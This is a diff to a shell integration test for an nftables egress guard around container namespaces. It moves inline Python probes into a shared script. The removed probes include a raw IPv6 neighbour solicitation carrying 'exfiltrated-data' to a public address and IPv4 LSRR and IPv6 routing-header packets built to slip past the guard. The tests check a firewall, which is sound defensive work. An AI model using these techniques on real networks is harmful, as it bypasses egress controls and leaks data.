@@ -325,7 +325,7 @@ docker_dns() { # ns
 	    '  type nat hook output priority -100; policy accept;' \
 	    '  ip daddr 127.0.0.11 counter jump DOCKER_OUTPUT' ' }' '}' |
 	    nsx "$1" nft -f - || return 1
-	start "$1" "$PY" "$T/dnsd.py" "$T/dns-$1.log" "$T/dns-$1.ready"
+	start "$1" "$PY" "$PROBE" dns-serve "$T/dns-$1.log" "$T/dns-$1.ready"
 }
 
 listen() { # ns addr:port name
@@ -345,55 +345,13 @@ for _ in range(1 << 20):
     log.flush()
 EOF
 
-cat >"$T/dnsd.py" <<'EOF'
-import select, socket, sys, time
-u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-u.bind(("127.0.0.11", 40054))
-t = socket.socket()
-t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-t.bind(("127.0.0.11", 40053))
-t.listen(8)
-log = open(sys.argv[1], "a")
-open(sys.argv[2], "w").write("ready\n")
-end = time.time() + 600
-while time.time() < end:
-    r, _, _ = select.select([u, t], [], [], 1)
-    for s in r:
-        if s is u:
-            d, peer = u.recvfrom(4096)
-            log.write("udp query from %s:%d\n" % peer)
-            u.sendto(d[:2] + b"\x81\x80" + d[4:], peer)
-        else:
-            c, peer = t.accept()
-            log.write("tcp connection from %s:%d\n" % peer)
-            c.close()
-        log.flush()
-EOF
+PROBE=$top/tests/integration/nftprobe.py
 
 # dns_query ns [prefix...]: "udp answered|refused tcp connected|refused"
 dns_query() {
 	ns=$1
 	shift
-	$PRE ip netns exec "$ns" "$@" "$PY" -c '
-import socket
-q = bytes.fromhex("123401000001000000000000076578616d706c6503636f6d0000010001")
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-s.settimeout(1)
-try:
-    s.sendto(q, ("127.0.0.11", 53))
-    s.recv(512)
-    u = "answered"
-except OSError:
-    u = "refused"
-t = socket.socket()
-t.settimeout(1)
-try:
-    t.connect(("127.0.0.11", 53))
-    c = "connected"
-except OSError:
-    c = "refused"
-print("udp %s tcp %s" % (u, c))
-'
+	$PRE ip netns exec "$ns" "$@" "$PY" "$PROBE" dns-query
 }
 
 if ! setup; then
@@ -450,18 +408,7 @@ fi
 
 # A root workload's raw socket sends a neighbour solicitation carrying
 # data to a public address (hop limit 255): the internet sees it.
-nd_offlink() { # ns dst
-	nsx "$1" "$PY" -c '
-import socket, sys
-s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
-s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
-tgt = socket.inet_pton(socket.AF_INET6, sys.argv[1])
-try:
-    s.sendto(bytes([135, 0, 0, 0, 0, 0, 0, 0]) + tgt + b"exfiltrated-data", (sys.argv[1], 0))
-except OSError:
-    pass
-' "$2"
-}
+nd_offlink() { nsx "$1" "$PY" "$PROBE" nd "$2"; }	# ns dst
 n=$(probe_count "$IN" 1)
 nd_offlink "$WL" $PUB6
 sleep 0.2
@@ -473,29 +420,13 @@ else fail control_nd_to_public_address_leaves_before_apply "the internet counted
 # guard's address would accept it, and a host with seg6_enabled or
 # accept_source_route forwards it on. IPv6: sent by an unprivileged user;
 # IPv4 source routes need CAP_NET_RAW, which Docker grants by default.
-srcroute() { # ns 6|4
-	if [ "$2" = 6 ]; then as="setpriv --reuid=12345 --regid=12345 --clear-groups"
-	else as=""; fi
-	nsx "$1" $as "$PY" -c '
-import socket, struct, sys
-if sys.argv[1] == "6":
-    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
-    seg = socket.inet_pton(socket.AF_INET6, "fd00:200::1")
-    srh = struct.pack("!BBBBBBH", 0, 2, 4, 0, 0, 0, 0) + seg
-    s.setsockopt(socket.IPPROTO_IPV6, 57, srh)		# IPV6_RTHDR
-    dst = ("fd00:200::1", 3128)
-else:
-    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-    # NOP, then LSRR (len 7, pointer 4) via 198.18.1.10
-    s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS,
-        bytes([1, 131, 7, 4]) + socket.inet_aton("198.18.1.10"))
-    dst = ("10.200.0.1", 3128)
-s.settimeout(0.5)
-try:
-    s.connect(dst)
-except OSError:
-    pass
-' "$2" 2>&1
+srcroute() { # ns 6|4: to the pretend internet's port 3128, next hop the guard
+	if [ "$2" = 6 ]; then
+		nsx "$1" setpriv --reuid=12345 --regid=12345 --clear-groups \
+		    "$PY" "$PROBE" rthdr $PUB6 3128 fd00:200::1 2>&1
+	else
+		nsx "$1" "$PY" "$PROBE" lsrr $PUB4 3128 10.200.0.1 2>&1
+	fi
 }
 for v in 6 4; do
 	k=$([ $v = 6 ] && echo 1 || echo 2)
